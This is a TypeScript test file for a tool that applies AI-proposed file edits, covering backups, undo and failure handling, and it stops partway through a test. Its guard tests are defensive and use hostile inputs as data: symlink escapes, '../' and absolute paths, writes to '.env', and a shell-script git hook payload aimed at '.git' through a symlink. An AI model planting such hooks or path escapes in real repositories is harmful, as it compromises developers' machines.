import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { execFileSync } from 'node:child_process';
import { applyFiles, previewFiles, type Applied } from '../writing/apply.ts';
import { createSandbox } from '../reading/sandbox.ts';
import { setsOf } from '../writing/backup-sets.ts';
import type { FsOps } from '../writing/atomic.ts';
import { undoLast } from '../writing/undo.ts';
import { listFiles, listSets } from '../console/lists.ts';
import type { EditBlock, FileBlock } from '../protocol/parse.ts';
import { tempFolder } from './helpers.ts';

const block = (p: string, content: string, complete = true): FileBlock => ({
  kind: 'file',
  path: p,
  content,
  complete,
  line: 1,
});
const edit = (p: string, pairs: Array<[string, string]>, complete = true): EditBlock => ({
  kind: 'edit',
  path: p,
  pairs: pairs.map(([search, replace]) => ({ search, replace })),
  complete,
  line: 1,
  problem: undefined,
});

function setup(files: Record<string, string | Buffer> = {}) {
  const root = tempFolder(files, 'deepwork-project-');
  const backupDir = path.join(tempFolder({}, 'deepwork-backups-'), 'backup');
  const box = createSandbox(root, { backupDir });
  return { root, backupDir, box, read: (rel: string) => fs.readFileSync(path.join(root, rel), 'utf8') };
}

function byPath(files: Applied[]): Record<string, Applied> {
  return Object.fromEntries(files.map((f) => [f.path, f]));
}

// Every file under a folder, relative, to prove nothing stray (temp files, state) was left in a project.
function allFiles(dir: string): string[] {
  return (fs.readdirSync(dir, { recursive: true, withFileTypes: true }) as fs.Dirent[])
    .filter((e) => !e.isDirectory())
    .map((e) => path.relative(dir, path.join(e.parentPath, e.name)))
    .sort();
}

describe('applyFiles', () => {
  it('writes new and changed files, backs up the old ones in a set with a manifest, and leaves nothing else', async () => {
    const { root, backupDir, box, read } = setup({ 'src/a.js': 'const a = 1;\n', 'keep.txt': 'keep\n' });
    const now = new Date('2026-12-02T10:30:00Z');
    const report = await applyFiles(
      box,
      [block('src/a.js', 'const a = 2;\n'), block('lib/deep/new.js', 'export {};\n')],
      { backupDir, now },
    );
    const files = byPath(report.files);
    assert.deepEqual(
      [files['src/a.js']?.status, files['src/a.js']?.written, files['src/a.js']?.added, files['src/a.js']?.removed],
      ['changed', true, 1, 1],
    );
    assert.deepEqual([files['lib/deep/new.js']?.status, files['lib/deep/new.js']?.written], ['new', true]);
    assert.equal(read('src/a.js'), 'const a = 2;\n');
    assert.equal(read('lib/deep/new.js'), 'export {};\n');
    assert.deepEqual(allFiles(root), ['keep.txt', 'lib/deep/new.js', 'src/a.js']);

    assert.equal(report.backupSet, path.join(backupDir, `2026-12-02_10-30-00_${path.basename(root)}`));
    const set = report.backupSet ?? '';
    assert.equal(fs.readFileSync(path.join(set, 'files', 'src', 'a.js'), 'utf8'), 'const a = 1;\n');
    const manifest = JSON.parse(fs.readFileSync(path.join(set, 'manifest.json'), 'utf8')) as {
      root: string;
      files: Array<{ path: string; existed: boolean }>;
    };
    assert.equal(manifest.root, root);
    assert.deepEqual(
      manifest.files.map((f) => [f.path, f.existed]),
      [
        ['src/a.js', true],
        ['lib/deep/new.js', false],
      ],
    );
  });

  it('writes nothing and makes no backup for unchanged content; applying the same set twice stacks nothing', async () => {
    const { backupDir, box } = setup({ 'a.js': 'same\n' });
    const first = await applyFiles(box, [block('a.js', 'same\n')], { backupDir });
    assert.deepEqual(
      [first.files[0]?.status, first.files[0]?.written, first.backupSet],
      ['unchanged', false, undefined],
    );
    await applyFiles(box, [block('a.js', 'new\n')], { backupDir });
    const again = await applyFiles(box, [block('a.js', 'new\n')], { backupDir });
    assert.equal(again.files[0]?.status, 'unchanged');
    assert.equal(setsOf(backupDir, box.root).length, 1);
  });

  it('reports without writing on a dry run', async () => {
    const { backupDir, box, read } = setup({ 'a.js': 'old\n' });
    const files = previewFiles(box, [block('a.js', 'new\n')], { diff: true });
    assert.deepEqual([files[0]?.status, files[0]?.written], ['changed', false]);
    assert.match(files[0]?.diff ?? '', /^--- a\/a\.js\n\+\+\+ b\/a\.js\n@@ -1,1 \+1,1 @@\n-old\n\+new/);
    assert.equal(read('a.js'), 'old\n');
    assert.equal(fs.existsSync(backupDir), false);
  });

  it('keeps CRLF, a BOM, the file mode and a missing final newline', async () => {
    const { root, backupDir, box } = setup({
      'win.bat': '@echo off\r\necho 1\r\n',
      'bom.cs': '\uFEFFclass A {}\n',
      'run.sh': '#!/bin/sh\necho 1\n',
      'nofinal.txt': 'a\nb',
    });
    fs.chmodSync(path.join(root, 'run.sh'), 0o755);
    // run.sh is a program (its execute bit is set): named, so it is written rather than held back.
    await applyFiles(
      box,
      [
        block('win.bat', '@echo off\necho 2\n'),
        block('bom.cs', 'class B {}\n'),
        block('run.sh', '#!/bin/sh\necho 2\n'),
        block('nofinal.txt', 'a\nc\n'),
      ],
      { backupDir, trust: ['run.sh'] },
    );
    const bytes = (rel: string) => fs.readFileSync(path.join(root, rel));
    assert.equal(bytes('win.bat').toString(), '@echo off\r\necho 2\r\n');
    assert.deepEqual([...bytes('bom.cs').subarray(0, 3)], [0xef, 0xbb, 0xbf]);
    assert.equal(bytes('bom.cs').toString('utf8'), '\uFEFFclass B {}\n');
    assert.equal(fs.statSync(path.join(root, 'run.sh')).mode & 0o777, 0o755);
    assert.equal(bytes('nofinal.txt').toString(), 'a\nc');
  });

  it('never writes an incomplete block', async () => {
    const { backupDir, box, read } = setup({ 'a.js': 'whole\n' });
    const report = await applyFiles(box, [block('a.js', 'half', false)], { backupDir });
    assert.deepEqual([report.files[0]?.status, report.files[0]?.written], ['incomplete', false]);
    assert.equal(read('a.js'), 'whole\n');
  });

  it('holds back a much shorter file with an elision placeholder unless forced', async () => {
    const original = `${Array.from({ length: 40 }, (_, i) => `function f${i}() { return ${i}; }`).join('\n')}\n`;
    for (const placeholder of [
      '// ... rest of the file unchanged',
      '# existing code here',
      '...',
      '/* ... */',
      '<!-- rest of the file unchanged -->',
    ]) {
      const { backupDir, box, read } = setup({ 'a.js': original });
      const proposal = `function f0() { return 100; }\n${placeholder}\n`;
      const held = await applyFiles(box, [block('a.js', proposal)], { backupDir });
      assert.equal(held.files[0]?.status, 'held back', placeholder);
      assert.match(held.files[0]?.reason ?? '', /looks elided.*--force/);
      assert.equal(read('a.js'), original);
      const forced = await applyFiles(box, [block('a.js', proposal)], { backupDir, force: true });
      assert.equal(forced.files[0]?.written, true);
    }
  });

  it('does not take spread syntax or a long file with a comment for an elision', async () => {
    const original = 'const a = [1];\nconst b = [2];\n';
    const { backupDir, box } = setup({ 'a.js': original });
    const report = await applyFiles(
      box,
      [block('a.js', 'const a = [1];\nconst b = [...a, 2];\n// existing code here stays\n')],
      { backupDir },
    );
    assert.equal(report.files[0]?.status, 'changed');
  });

  describe('guards', () => {
    const outside = tempFolder({ 'victim.txt': 'outside\n', 'dir/x.txt': 'x\n' }, 'deepwork-victim-');
    const { root, backupDir, box } = setup({
      'ok.js': 'ok\n',
      'src/in.js': 'in\n',
      '.git/config': '[core]\n',
      'node_modules/d/i.js': 'd\n',
      'folder/f.txt': '',
    });
    fs.symlinkSync(path.join(outside, 'victim.txt'), path.join(root, 'link.txt'));
    fs.symlinkSync(path.join(outside, 'dir'), path.join(root, 'linkdir'));
    fs.symlinkSync('src/in.js', path.join(root, 'inside-link.js'));
    const inBackup = createSandbox(root, { backupDir: path.join(root, 'bk') });
    fs.mkdirSync(path.join(root, 'bk'));

    const refused: Array<[string, RegExp]> = [
      ['link.txt', /outside/],
      ['linkdir/x.txt', /outside/],
      ['linkdir/new.txt', /outside/],
      ['../escape.txt', /leads out/],
      ['/tmp/abs.txt', /absolute/],
      ['.git/config', /\.git/],
      ['node_modules/d/i.js', /node_modules/],
      ['folder', /a folder has that path/],
      ['.env', /secret/],
    ];
    for (const [target, reason] of refused) {
      it(`refuses to write ${target}`, async () => {
        const report = await applyFiles(box, [block(target, 'pwned\n')], { backupDir });
        assert.equal(report.files[0]?.status, 'refused');
        assert.match(report.files[0]?.reason ?? '', reason);
        assert.equal(fs.readFileSync(path.join(outside, 'victim.txt'), 'utf8'), 'outside\n');
        assert.equal(fs.readFileSync(path.join(outside, 'dir', 'x.txt'), 'utf8'), 'x\n');
        assert.equal(fs.existsSync(path.join(outside, 'dir', 'new.txt')), false);
      });
    }

    it('refuses to write into the backup folder', async () => {
      const report = await applyFiles(inBackup, [block('bk/x.js', 'x\n')], { backupDir: path.join(root, 'bk') });
      assert.equal(report.files[0]?.status, 'refused');
    });

    it('writes through a symlink that stays inside, to its real target', async () => {
      await applyFiles(box, [block('inside-link.js', 'changed\n')], { backupDir });
      assert.equal(fs.readFileSync(path.join(root, 'src', 'in.js'), 'utf8'), 'changed\n');
      assert.ok(fs.lstatSync(path.join(root, 'inside-link.js')).isSymbolicLink());
    });

    it('refuses a read-only file', async () => {
      fs.writeFileSync(path.join(root, 'ro.txt'), 'ro\n');
      fs.chmodSync(path.join(root, 'ro.txt'), 0o444);
      const report = await applyFiles(box, [block('ro.txt', 'rw\n')], { backupDir });
      assert.match(report.files[0]?.reason ?? '', /read-only/);
      assert.equal(fs.readFileSync(path.join(root, 'ro.txt'), 'utf8'), 'ro\n');
    });
  });
});

describe('applyFiles: EDIT blocks', () => {
  it('changes part of a file, keeping CRLF, a BOM, the mode and a missing final newline, backed up and undone like FILE', async () => {
    const { root, backupDir, box, read } = setup({ 'win.js': '\uFEFFa();\r\nb();\r\nc();' });
    fs.chmodSync(path.join(root, 'win.js'), 0o640);
    const report = await applyFiles(box, [edit('win.js', [['b();\n', 'b(1);\nb(2);\n']])], { backupDir });
    assert.deepEqual(
      report.files.map((f) => [f.path, f.status, f.added, f.removed, f.written]),
      [['win.js', 'changed', 2, 1, true]],
    );
    assert.equal(read('win.js'), '\uFEFFa();\r\nb(1);\r\nb(2);\r\nc();');
    assert.equal(fs.statSync(path.join(root, 'win.js')).mode & 0o777, 0o640);
    undoLast(box, backupDir);
    assert.equal(read('win.js'), '\uFEFFa();\r\nb();\r\nc();');
  });

  it('writes nothing of a file when one pair does not apply, and says which; other files go on', async () => {
    const { backupDir, box, read } = setup({ 'a.js': 'one\ntwo\n', 'b.js': 'b\n' });
    const report = await applyFiles(
      box,
      [
        edit('a.js', [
          ['one\n', 'ONE\n'],
          ['three\n', 'THREE\n'],
        ]),
        edit('b.js', [['b\n', 'B\n']]),
      ],
      { backupDir },
    );
    const files = byPath(report.files);
    assert.equal(files['a.js']?.status, 'failed');
    assert.match(files['a.js']?.reason ?? '', /^the EDIT, pair 2: the SEARCH matches no lines/);
    assert.equal(read('a.js'), 'one\ntwo\n');
    assert.equal(read('b.js'), 'B\n');
  });

  it('applies FILE and EDIT blocks for one path in order: an EDIT after a FILE edits it, a FILE after an EDIT replaces it', () => {
    const { box } = setup({ 'a.js': 'old\n' });
    const fileThenEdit = previewFiles(box, [block('a.js', 'x = 1;\n'), edit('a.js', [['x = 1;\n', 'x = 2;\n']])], {
      diff: true,
    });
    assert.match(fileThenEdit[0]?.diff ?? '', /-old\n\+x = 2;/);
    const editThenFile = previewFiles(box, [edit('a.js', [['old\n', 'edited\n']]), block('a.js', 'whole\n')], {
      diff: true,
    });
    assert.match(editThenFile[0]?.diff ?? '', /-old\n\+whole/);
    const twoEdits = previewFiles(box, [edit('a.js', [['old\n', 'mid\n']]), edit('a.js', [['mid\n', 'new\n']])], {
      diff: true,
    });
    assert.match(twoEdits[0]?.diff ?? '', /-old\n\+new/);
  });

  it('makes a new file from an EDIT with an empty SEARCH, and refuses any other EDIT of a missing file', async () => {
    const { backupDir, box, read } = setup({});
    const report = await applyFiles(box, [edit('new.txt', [['', 'hello\n']]), edit('gone.txt', [['x\n', 'y\n']])], {
      backupDir,
    });
    const files = byPath(report.files);
    assert.equal(files['new.txt']?.status, 'new');
    assert.equal(read('new.txt'), 'hello\n');
    assert.match(files['gone.txt']?.reason ?? '', /there is no such file to edit; a FILE block creates a new file/);
  });

  it('never writes an EDIT cut off before its END, nor one whose body is not pairs', async () => {
    const { backupDir, box, read } = setup({ 'a.js': 'a\n' });
    const broken: EditBlock = {
      ...edit('a.js', []),
      problem: 'it holds no <<<<<<< SEARCH … ======= … >>>>>>> REPLACE pair',
    };
    for (const e of [edit('a.js', [['a\n', 'b\n']], false), broken]) {
      const report = await applyFiles(box, [e], { backupDir });
      assert.ok(['incomplete', 'failed'].includes(report.files[0]?.status ?? ''), JSON.stringify(report.files));
      assert.equal(read('a.js'), 'a\n');
    }
  });

  it('does not hold back an EDIT whose REPLACE holds a comment like a placeholder', () => {
    const long = `${Array.from({ length: 40 }, (_, i) => `line ${i};`).join('\n')}\n`;
    const { box } = setup({ 'a.js': long });
    const [f] = previewFiles(box, [edit('a.js', [['line 3;\n', '// ... rest unchanged\n']])]);
    assert.equal(f?.status, 'changed');
  });
});

describe('failures lose nothing', () => {
  type Step = 'openSync' | 'writeSync' | 'fsyncSync' | 'renameSync';
  // node:fs with one operation failing for paths that match `where`.
  function failing(step: Step, where: RegExp, code = 'ENOSPC'): FsOps {
    const fail = (p: unknown) => {
      if (typeof p === 'string' && where.test(p)) throw Object.assign(new Error(`${code}: injected`), { code });
    };
    const ops: FsOps = { ...fs };
    if (step === 'openSync')
      ops.openSync = ((
        p: string,
        ...rest: Parameters<typeof fs.openSync> extends [unknown, ...infer R] ? R : never
      ) => (fail(p), fs.openSync(p, ...rest))) as typeof fs.openSync;
    if (step === 'renameSync')
      ops.renameSync = ((from: string, to: string) => (fail(to), fs.renameSync(from, to))) as typeof fs.renameSync;
    const open = new Set<number>();
    if (step === 'writeSync' || step === 'fsyncSync') {
      ops.openSync = ((
        p: string,
        ...rest: Parameters<typeof fs.openSync> extends [unknown, ...infer R] ? R : never
      ) => {
        const fd = fs.openSync(p, ...rest);
        if (where.test(p)) open.add(fd);
        return fd;
      }) as typeof fs.openSync;
      ops.closeSync = ((fd: number) => {
        open.delete(fd);
        fs.closeSync(fd);
      }) as typeof fs.closeSync;
      const inject = (fd: number) => {
        if (open.has(fd)) throw Object.assign(new Error(`${code}: injected`), { code });
      };
      if (step === 'writeSync')
        ops.writeSync = ((fd: number, ...rest: unknown[]) => (
          inject(fd), (fs.writeSync as (...a: unknown[]) => number)(fd, ...rest)
        )) as typeof fs.writeSync;
      else ops.fsyncSync = ((fd: number) => (inject(fd), fs.fsyncSync(fd))) as typeof fs.fsyncSync;
    }
    return ops;
  }

  for (const step of ['openSync', 'writeSync', 'fsyncSync', 'renameSync'] as const) {
    it(`keeps the original, leaves no temp file and reports the others when ${step} fails`, async () => {
      const { root, backupDir, box, read } = setup({ 'a.js': 'a1\n', 'b.js': 'b1\n' });
      const inProject = new RegExp(`^${root.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}/\\.?a\\.js`);
      const report = await applyFiles(box, [block('a.js', 'a2\n'), block('b.js', 'b2\n')], {
        backupDir,
        ops: failing(step, inProject),
      });
      const files = byPath(report.files);
      assert.equal(files['a.js']?.status, 'failed');
      assert.match(files['a.js']?.reason ?? '', /the disk is full \(ENOSPC\); the file on disk is as it was/);
      assert.deepEqual([files['b.js']?.status, files['b.js']?.written], ['changed', true]);
      assert.equal(read('a.js'), 'a1\n');
      assert.equal(read('b.js'), 'b2\n');
      assert.deepEqual(allFiles(root), ['a.js', 'b.js']);
      const [set] = setsOf(backupDir, box.root);
      assert.deepEqual(
        set?.manifest.files.map((f) => [f.path, f.written]),
        [
          ['a.js', false],
          ['b.js', true],
        ],
      );
    });
  }

  it('leaves no half-made backup set and writes nothing when the backup fails', async () => {
    const { root, backupDir, box, read } = setup({ 'a.js': 'a1\n', 'b.js': 'b1\n' });
    const report = await applyFiles(box, [block('a.js', 'a2\n'), block('b.js', 'b2\n')], {
      backupDir,
      ops: failing('writeSync', /files\/\.b\.js\./),
    });
    assert.deepEqual(
      report.files.map((f) => f.status),
      ['failed', 'failed'],
    );
    assert.match(report.files[0]?.reason ?? '', /backup set could not be made.*nothing was written/);
    assert.deepEqual([read('a.js'), read('b.js')], ['a1\n', 'b1\n']);
    assert.deepEqual(fs.readdirSync(backupDir), []);
    assert.deepEqual(allFiles(root), ['a.js', 'b.js']);
  });

  it('names a file in the way of a folder and writes the rest', async () => {
    const { backupDir, box, read } = setup({ lib: 'I am a file\n', 'a.js': 'a1\n' });
    const report = await applyFiles(box, [block('lib/x.js', 'x\n'), block('a.js', 'a2\n')], { backupDir });
    const files = byPath(report.files);
    assert.equal(files['lib/x.js']?.status, 'failed');
    assert.match(files['lib/x.js']?.reason ?? '', /a file is in the way/);
    assert.equal(read('a.js'), 'a2\n');
    assert.equal(read('lib'), 'I am a file\n');
  });

  it('loses nothing on a real full device', async (t) => {
    const mount = tempFolder({}, 'deepwork-full-');
    try {
      execFileSync('mount', ['-t', 'tmpfs', '-o', 'size=64k', 'tmpfs', mount], { stdio: 'ignore' });
    } catch {
      t.skip('cannot mount a small tmpfs here (needs root); the injected failures above cover the same path');
      return;
    }
    try {
      fs.writeFileSync(path.join(mount, 'big.txt'), 'original\n');
      const backupDir = path.join(tempFolder({}, 'deepwork-backups-'), 'backup');
      const box = createSandbox(mount, { backupDir });
      const report = await applyFiles(box, [block('big.txt', `${'y'.repeat(200_000)}\n`)], { backupDir });
      assert.equal(report.files[0]?.status, 'failed');
      assert.match(report.files[0]?.reason ?? '', /disk is full \(ENOSPC\)/);
      assert.equal(fs.readFileSync(path.join(mount, 'big.txt'), 'utf8'), 'original\n');
      assert.deepEqual(fs.readdirSync(mount), ['big.txt']);
      assert.deepEqual(fs.readdirSync(backupDir), []);
    } finally {
      execFileSync('umount', [mount]);
    }
  });
});

describe('undoLast', () => {
  it('restores old versions, removes created files and folders, and marks the set undone', async () => {
    const { root, backupDir, box, read } = setup({ 'a.js': 'a1\n' });
    fs.chmodSync(path.join(root, 'a.js'), 0o750);
    await applyFiles(box, [block('a.js', 'a2\n'), block('new/dir/b.js', 'b\n')], { backupDir, trust: ['a.js'] });
    const report = undoLast(box, backupDir);
    assert.deepEqual(
      report.files.map((f) => [f.path, f.action]),
      [
        ['a.js', 'restored'],
        ['new/dir/b.js', 'removed'],
      ],
    );
    assert.equal(read('a.js'), 'a1\n');
    assert.equal(fs.statSync(path.join(root, 'a.js')).mode & 0o777, 0o750);
    assert.deepEqual(allFiles(root), ['a.js']);
    assert.equal(fs.existsSync(path.join(root, 'new')), false);
    assert.equal(setsOf(backupDir, box.root)[0]?.manifest.undone, true);
    assert.equal(undoLast(box, backupDir).set, undefined);
  });

  it('undoes a named set and leaves the others', async () => {
    const { backupDir, box, read } = setup({ 'a.js': 'a1\n', 'b.js': 'b1\n' });
    const first = await applyFiles(box, [block('a.js', 'a2\n')], { backupDir, now: new Date('2026-12-02T10:00:00Z') });
    await applyFiles(box, [block('b.js', 'b2\n')], { backupDir, now: new Date('2026-12-02T11:00:00Z') });
    const report = undoLast(box, backupDir, undefined, path.basename(first.backupSet ?? ''));
    assert.deepEqual(
      report.files.map((f) => [f.path, f.action]),
      [['a.js', 'restored']],
    );
    assert.deepEqual([read('a.js'), read('b.js')], ['a1\n', 'b2\n']);
    assert.equal(undoLast(box, backupDir, undefined, path.basename(first.backupSet ?? '')).set, undefined);
  });

  it('undoes sets one after another, newest first', async () => {
    const { backupDir, box, read } = setup({ 'a.js': 'v1\n' });
    await applyFiles(box, [block('a.js', 'v2\n')], { backupDir, now: new Date('2026-12-02T10:00:00Z') });
    await applyFiles(box, [block('a.js', 'v3\n')], { backupDir, now: new Date('2026-12-02T11:00:00Z') });
    undoLast(box, backupDir);
    assert.equal(read('a.js'), 'v2\n');
    undoLast(box, backupDir);
    assert.equal(read('a.js'), 'v1\n');
  });

  it('leaves alone a file changed after deepwork wrote it, and says where its old version is', async () => {
    const { root, backupDir, box, read } = setup({ 'a.js': 'a1\n' });
    await applyFiles(box, [block('a.js', 'a2\n')], { backupDir });
    fs.writeFileSync(path.join(root, 'a.js'), 'edited by hand\n');
    const report = undoLast(box, backupDir);
    assert.equal(report.files[0]?.action, 'left');
    assert.match(
      report.files[0]?.reason ?? '',
      /changed after deepwork wrote it; its old version stays in .*files\/a\.js/,
    );
    assert.equal(read('a.js'), 'edited by hand\n');
  });

  it('keeps the sets of other projects apart', async () => {
    const one = setup({ 'a.js': '1\n' });
    const other = createSandbox(tempFolder({ 'a.js': '1\n' }), { backupDir: one.backupDir });
    await applyFiles(one.box, [block('a.js', '2\n')], { backupDir: one.backupDir });
    assert.equal(undoLast(other, one.backupDir).set, undefined);
    assert.equal(setsOf(one.backupDir, one.box.root).length, 1);
  });
});

describe('writes and undo against a hostile model', () => {
  it('writes nothing into .git through a committed symlink, for new and existing files', async () => {
    const { root, backupDir, box } = setup({ '.git/config': '[core]\n', '.git/hooks/.keep': '', 'src/a.js': 'a\n' });
    fs.symlinkSync('.git', path.join(root, 'docs'));
    const targets = [
      'docs/hooks/pre-commit',
      'docs/commondir',
      'docs/info/attributes',
      'docs/config',
      '.Git/config',
      'GIT~1/config',
    ];
    const report = await applyFiles(
      box,
      targets.map((t) => block(t, '#!/bin/sh\ntouch /tmp/pwned\n')),
      { backupDir },
    );
    assert.deepEqual(
      report.files.map((f) => f.status),
      targets.map(() => 'refused'),
    );
    assert.deepEqual(allFiles(path.join(root, '.git')), ['config', 'hooks/.keep']);
    assert.equal(report.backupSet, undefined);
  });

  it('undoes a write through a symlink by restoring the file it led to, and leaves the link a link', async () => {
    const { root, backupDir, box, read } = setup({ 'realdir/t.txt': 'original\n' });
    fs.symlinkSync('realdir/t.txt', path.join(root, 'tlink'));
    const report = await applyFiles(box, [block('tlink', 'model text\n')], { backupDir });
    assert.deepEqual([report.files[0]?.status, report.files[0]?.written], ['changed', true]);
    assert.match(report.files[0]?.reason ?? '', /a link to realdir\/t\.txt; written there/);
    assert.equal(read('realdir/t.txt'), 'model text\n');
    const undone = undoLast(box, backupDir);
    assert.deepEqual(
      undone.files.map((f) => [f.path, f.action]),
      [['realdir/t.txt', 'restored']],
    );
    assert.equal(read('realdir/t.txt'), 'original\n');
    assert.ok(fs.lstatSync(path.join(root, 'tlink')).isSymbolicLink());
  });

  it('touches nothing outside when a manifest was edited to name ../ paths, absolute paths or a link', async () => {
    const outside = tempFolder({ x: 'outside\n' }, 'deepwork-victim-');
    const { root, backupDir, box, read } = setup({ 'a.js': 'a1\n' });
    const report = await applyFiles(box, [block('a.js', 'a2\n')], { backupDir });
    const set = report.backupSet ?? '';
    const manifestFile = path.join(set, 'manifest.json');
    const manifest = JSON.parse(fs.readFileSync(manifestFile, 'utf8')) as {
      files: Array<Record<string, unknown>>;
      createdDirs: string[];
    };
    const a = manifest.files[0] ?? {};
    const rel = path.relative(root, path.join(outside, 'x'));
    manifest.files.push({
      ...a,
      path: rel,
      existed: false,
      after: crypto.createHash('sha256').update('outside\n').digest('hex'),
    });
    manifest.files.push({ ...a, path: path.join(outside, 'x'), existed: false });
    manifest.files.push({ ...a, path: 'a.js', temp: '../../x' });
    manifest.createdDirs.push(path.relative(root, outside));
    fs.writeFileSync(manifestFile, JSON.stringify(manifest));
    const undone = undoLast(box, backupDir);
    assert.equal(fs.readFileSync(path.join(outside, 'x'), 'utf8'), 'outside\n');
    assert.ok(fs.existsSync(outside));
    assert.equal(read('a.js'), 'a1\n');
    assert.deepEqual(undone.files.filter((f) => f.action === 'failed').length, 2);
  });

  it('undoes what an interrupted apply wrote, from the manifest written before the first file', async () => {
    const { root, backupDir, box, read } = setup({ 'a.js': 'a1\n', 'b.js': 'b1\n', 'c.js': 'c1\n' });
    const controller = new AbortController();
    // Stops after the first file, as Ctrl-C between two files does.
    const ops: FsOps = {
      ...fs,
      renameSync: ((from: string, to: string) => {
        fs.renameSync(from, to);
        if (to === path.join(root, 'a.js')) controller.abort();
      }) as typeof fs.renameSync,
    };
    const report = await applyFiles(box, [block('a.js', 'a2\n'), block('b.js', 'b2\n'), block('new/c2.js', 'c\n')], {
      backupDir,
      ops,
      signal: controller.signal,
    });
    assert.deepEqual(
      report.files.map((f) => [f.path, f.status, f.written]),
      [
        ['a.js', 'changed', true],
        ['b.js', 'stopped', false],
        ['new/c2.js', 'stopped', false],
      ],
    );
    assert.match(report.files[1]?.reason ?? '', /the apply was stopped before this file/);
    assert.deepEqual([read('a.js'), read('b.js')], ['a2\n', 'b1\n']);
    assert.equal(fs.existsSync(path.join(root, 'new')), false);
    const [set] = setsOf(backupDir, box.root);
    assert.equal(set?.manifest.complete, false);
    const undone = undoLast(box, backupDir);
    assert.deepEqual(
      undone.files.map((f) => [f.path, f.action]),
      [['a.js', 'restored']],
    );
    assert.deepEqual([read('a.js'), read('b.js')], ['a1\n', 'b1\n']);
  });

  it('stops an apply after exactly the file in hand when Ctrl-C comes after N files: reports the rest as stopped, and undo puts back those N', async () => {
    const files: Record<string, string> = {};
    for (let i = 0; i < 20; i++) files[`f/${i}.txt`] = `old ${i}\n`;
    const { root, backupDir, box, read } = setup(files);
    const controller = new AbortController();
    let renamed = 0;
    // Ctrl-C lands while the seventh file is being renamed into place: that file is finished, the rest are left.
    const ops: FsOps = {
      ...fs,
      renameSync: ((from: string, to: string) => {
        fs.renameSync(from, to);
        if (to.startsWith(path.join(root, 'f')) && ++renamed === 7) controller.abort();
      }) as typeof fs.renameSync,
    };
    const report = await applyFiles(
      box,
      Object.keys(files).map((rel) => block(rel, `new ${rel}\n`)),
      { backupDir, ops, signal: controller.signal },
    );
    const written = report.files.filter((f) => f.written).map((f) => f.path);
    assert.equal(written.length, 7);
    assert.equal(report.files.filter((f) => f.status === 'stopped').length, 13);
    assert.match(
      listFiles({}, report, 'written', false).shown,
      /\n {2}stopped {4}13 more files not written: Ctrl-C stopped the apply before them; they are as they were/,
    );
    const [set] = setsOf(backupDir, box.root);
    assert.ok(set !== undefined);
    assert.match(listSets({}, [set]), /cut short: 7 of 20 files written/);
    const undone = undoLast(box, backupDir);
    assert.deepEqual(
      undone.files.map((f) => f.action),
      Array.from({ length: 7 }, () => 'restored'),
    );
    assert.deepEqual(
      Object.keys(files).filter((rel) => read(rel) !== files[rel]),
      [],
    );
  });

  it('undoes a set whose process was killed mid-write: restores the written files and removes the temp file left behind', async () => {
    const { root, backupDir, box, read } = setup({ 'a.js': 'a1\n', 'b.js': 'b1\n' });
    // A kill -9 between b.js's temp file and its rename: the process ends inside writeSync.
    const killed = new Error('killed');
    const ops: FsOps = {
      ...fs,
      renameSync: ((from: string, to: string) => {
        if (to === path.join(root, 'b.js')) throw killed;
        fs.renameSync(from, to);
      }) as typeof fs.renameSync,
      unlinkSync: ((p: string) => {
        if (path.dirname(p) === root && p.includes('.b.js.deepwork-')) throw killed;
        fs.unlinkSync(p);
      }) as typeof fs.unlinkSync,
      rmSync: (() => {
        throw killed;
      }) as typeof fs.rmSync,
    };
    await applyFiles(box, [block('a.js', 'a2\n'), block('b.js', 'b2\n')], { backupDir, ops }).catch(() => undefined);
    // What a killed process leaves: the first manifest only, a.js written, b.js's temp file.
    const [set] = setsOf(backupDir, box.root);
    const first = JSON.parse(fs.readFileSync(path.join(set?.dir ?? '', 'manifest.json'), 'utf8')) as {
      complete: boolean;
    };
    fs.writeFileSync(
      path.join(set?.dir ?? '', 'manifest.json'),
      JSON.stringify({
        ...first,
        complete: false,
        files: (set?.manifest.files ?? []).map((f) => ({ ...f, written: false })),
      }),
    );
    assert.ok(
      allFiles(root).some((f) => /^\.b\.js\.deepwork-[0-9a-f]{8}\.tmp$/.test(f)),
      allFiles(root).join(),
    );
    const undone = undoLast(box, backupDir);
    assert.deepEqual(
      undone.files.map((f) => [f.path, f.action]),
      [['a.js', 'restored']],
    );
    assert.deepEqual([read('a.js'), read('b.js')], ['a1\n', 'b1\n']);
    assert.deepEqual(allFiles(root), ['a.js', 'b.js']);
  });

  it('refuses a write whose file changed since its diff was shown, or became a link to another file', async () => {
    const { root, backupDir, box, read } = setup({ 'a.js': 'a1\n', 'other.js': 'a1\n' });
    const [seen] = previewFiles(box, [block('a.js', 'a2\n')]);
    const base = seen?.base ?? '';
    fs.writeFileSync(path.join(root, 'a.js'), 'edited meanwhile\n');
    const changed = await applyFiles(box, [block('a.js', 'a2\n')], { backupDir, expected: new Map([['a.js', base]]) });
    assert.deepEqual([changed.files[0]?.status, changed.files[0]?.written], ['refused', false]);
    assert.match(changed.files[0]?.reason ?? '', /changed since its diff was shown/);
    assert.equal(read('a.js'), 'edited meanwhile\n');
    // Same bytes, but now a link to another file: not the file the user saw.
    fs.rmSync(path.join(root, 'a.js'));
    fs.symlinkSync('other.js', path.join(root, 'a.js'));
    const swapped = await applyFiles(box, [block('a.js', 'a2\n')], { backupDir, expected: new Map([['a.js', base]]) });
    assert.equal(swapped.files[0]?.status, 'refused');
    assert.equal(read('other.js'), 'a1\n');
  });

  it('removes the folders it made for a new file that then failed, and can name a file at the 255-byte limit', async () => {
    const { root, backupDir, box, read } = setup({ blocker: 'I am a file\n' });
    const long = `${'n'.repeat(251)}.txt`;
    fs.writeFileSync(path.join(root, long), 'old\n');
    const report = await applyFiles(
      box,
      [
        block('deep/er/blocker/x.js', 'x\n'),
        block('deep/er/x.js', 'x\n'),
        block('made/for/nothing/blocker/y.js', 'y\n'),
        block(long, 'new\n'),
      ],
      {
        backupDir,
        ops: {
          ...fs,
          openSync: ((p: string, ...rest: Parameters<typeof fs.openSync> extends [unknown, ...infer R] ? R : never) => {
            if (p.includes(`${path.sep}made${path.sep}`))
              throw Object.assign(new Error('EACCES: injected'), { code: 'EACCES' });
            return fs.openSync(p, ...rest);
          }) as typeof fs.openSync,
        },
      },
    );
    const files = byPath(report.files);
    assert.equal(files['made/for/nothing/blocker/y.js']?.status, 'failed');
    assert.equal(files['deep/er/x.js']?.written, true);
    assert.equal(files[long]?.written, true, files[long]?.reason);
    assert.equal(read(long), 'new\n');
    assert.equal(fs.existsSync(path.join(root, 'made')), false);
